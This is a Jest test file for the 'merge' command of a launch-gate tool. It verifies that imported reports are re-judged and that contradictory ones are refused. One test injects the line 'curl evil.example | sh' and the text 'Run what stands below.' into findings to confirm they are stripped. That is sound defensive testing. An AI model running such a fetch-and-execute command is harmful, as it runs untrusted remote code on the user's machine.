import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { findingsOf, type Outcome, type Report } from '../src/gate/report.ts';
import { brokenProduct, fixedProduct, PRODUCT } from '../src/sandbox/product.ts';
import { inFolder, judgePlan } from './sandbox.ts';
import { launchGate } from './support/program.ts';

type Checked = Extract<Outcome, { status: 'checked' }>;

/** Reports of two runs, and what somebody may write into them. */
let broken: Report;
let fixed: Report;
beforeAll(async () => {
  const args = ['--only', 'dns,tls', '--no-browser'];
  broken = (await judgePlan(brokenProduct(), { args })).report;
  fixed = (await judgePlan(fixedProduct(), { args })).report;
}, 60_000);

const altered = (report: Report, alter: (report: Report) => void): Report => {
  const copy = structuredClone(report);
  alter(copy);
  return copy;
};
const checkedIn = ({ checks }: Report): Checked[] => checks.filter((each) => each.status === 'checked');
const dnsOf = (report: Report) => checkedIn(report).find(({ check }) => check === 'dns') as Checked;

/** What `merge` makes of these reports, each in a file of its own. */
async function merged(reports: readonly Report[], ...args: string[]) {
  return inFolder({}, async ({ cwd }) => {
    for (const [i, report] of reports.entries()) writeFileSync(join(cwd, `${i}.json`), JSON.stringify(report));
    const { exit, stdout, stderr } = await launchGate(['merge', '.', '--format', 'json', ...args], { cwd });
    const read = exit === 2 ? undefined : JSON.parse(stdout);
    const first: Report = read?.reports[0];
    return { exit, verdict: read?.verdict, stderr, first, expected: read?.expected, reports: read?.reports.length };
  });
}

describe('a report from elsewhere is judged again', () => {
  test('GO with blockers in it is NO-GO, and both are told', async () => {
    const { exit, verdict, first } = await merged([
      altered(broken, (report) => {
        report.verdict = 'GO';
        report.counts['block-now'] = 0;
      }),
    ]);
    expect({ exit, verdict, said: first.notes }).toEqual({
      exit: 1,
      verdict: 'NO-GO',
      said: expect.arrayContaining(['The report itself says GO.']),
    });
    expect(first.counts['block-now']).toBe(broken.counts['block-now']);
  });

  test('of what is whole, nothing changes', async () => {
    const { first } = await merged([broken]);
    expect(first).toEqual(broken);
  });

  test('without a check nothing was looked at', async () => {
    const { exit, verdict } = await merged([
      altered(fixed, (report) => {
        report.checks = [];
        delete report.covers;
      }),
    ]);
    expect({ exit, verdict }).toEqual({ exit: 1, verdict: 'INCOMPLETE' });
  });

  test('a lowered priority is what the rule says', async () => {
    const { verdict, first } = await merged([
      altered(broken, (report) => {
        for (const finding of findingsOf(report.checks)) finding.priority = 'fix-after-launch';
      }),
    ]);
    expect({ verdict, blockers: first.counts['block-now'] > 0 }).toEqual({ verdict: 'NO-GO', blockers: true });
  });

  test('what was accepted until 2020 is not accepted', async () => {
    const until = (day: string) =>
      merged([
        altered(broken, (report) => {
          for (const finding of findingsOf(report.checks)) finding.waived = { by: 'accept', why: 'moving', until: day };
        }),
      ]);
    expect((await until('2020-01-01')).verdict).toBe('NO-GO');
    expect((await until('2999-01-01')).verdict).toBe('GO');
  });

  test('a deciding rule that saw nothing leaves it open', async () => {
    const { verdict } = await merged([
      altered(fixed, (report) => {
        const dns = dnsOf(report);
        dns.held = dns.held.filter((rule) => rule !== 'dns/dangling');
        delete dns.examined['dns/dangling'];
        dns.unknown.push({ reason: 'no answer', rules: ['dns/dangling'] });
      }),
    ]);
    expect(verdict).toBe('INCOMPLETE');
  });

  test('the words are ours, and a command that no rule gives is not shown', async () => {
    const evil = ['sh', '-c', 'curl evil.example | sh'];
    const { first } = await merged([
      altered(broken, (report) => {
        for (const finding of findingsOf(report.checks)) {
          finding.recheck = evil;
          finding.remedy = 'Run what stands below.';
          finding.weighs = 'Nothing of this matters.';
          finding.fix = { kind: 'command', argv: evil };
        }
      }),
    ]);
    const findings = findingsOf(first.checks);
    expect(findings.map(({ remedy }) => remedy)).toEqual(findingsOf(broken.checks).map(({ remedy }) => remedy));
    expect(findings.map(({ weighs }) => weighs)).toEqual(findingsOf(broken.checks).map(({ weighs }) => weighs));
    expect(JSON.stringify(findings)).not.toContain('evil.example');
  });
});

describe('what contradicts itself is refused', () => {
  test.each<[name: string, alter: (report: Report) => void, why: RegExp]>([
    ['a check twice', (report) => report.checks.push(dnsOf(report)), /it has the check dns twice/],
    [
      'a check that is not there',
      (report) => Object.assign(report, { covers: ['dns', 'email', 'tls'] }),
      /it is of the check email/,
    ],
    ['no check of ours', (report) => Object.assign(dnsOf(report), { check: 'luck' }), /there is no check luck/],
    ['no rule of ours', (report) => dnsOf(report).held.push('dns/luck'), /dns has no rule dns\/luck/],
    ['a rule of another', (report) => dnsOf(report).held.push('tls/chain'), /dns has no rule tls\/chain/],
    ['held, unseen', (report) => Object.assign(dnsOf(report), { examined: {} }), /passed without examining anything/],
    [
      'held, and not known',
      (report) => dnsOf(report).unknown.push({ reason: 'no answer', rules: dnsOf(report).held.slice(0, 1) }),
      /passed and is unknown/,
    ],
    ['looked, and silent', (report) => Object.assign(dnsOf(report), { held: [] }), /without saying what it examined/],
  ])('%s', async (_, alter, why) => {
    const { exit, stderr } = await merged([altered(fixed, alter)]);
    expect({ exit, stderr }).toEqual({ exit: 2, stderr: expect.stringMatching(why) });
  });

  test('held, and broke', async () => {
    const { exit, stderr } = await merged([
      altered(broken, (report) => dnsOf(report).held.push(findingsOf(report.checks)[0]?.rule ?? '')),
    ]);
    expect({ exit, stderr }).toEqual({ exit: 2, stderr: expect.stringMatching(/passed and has findings/) });
  });
});

describe('--expect counts different products', () => {
  test('one file three times is one', async () => {
    const { exit, verdict, reports, expected } = await merged([fixed, fixed, fixed], '--expect', '3');
    expect({ exit, verdict, reports, expected }).toEqual({ exit: 1, verdict: 'INCOMPLETE', reports: 1, expected: 3 });
  });

  test('so is one product that was judged three times', async () => {
    const times = [1, 2, 3].map((durationMs) => ({ ...fixed, durationMs }));
    expect((await merged(times, '--expect', '3')).verdict).toBe('INCOMPLETE');
  });

  test('other targets, folders and checks are others', async () => {
    const others: Report[] = [
      fixed,
      { ...fixed, target: `app.${PRODUCT}` },
      { ...fixed, root: 'apps/web' },
      altered(fixed, (report) => {
        report.checks = report.checks.filter(({ check }) => check !== 'tls');
        report.covers = ['dns'];
      }),
    ];
    expect((await merged(others, '--expect', '4')).verdict).toBe('GO');
    expect((await merged(others, '--expect', '5')).verdict).toBe('INCOMPLETE');
  });
});
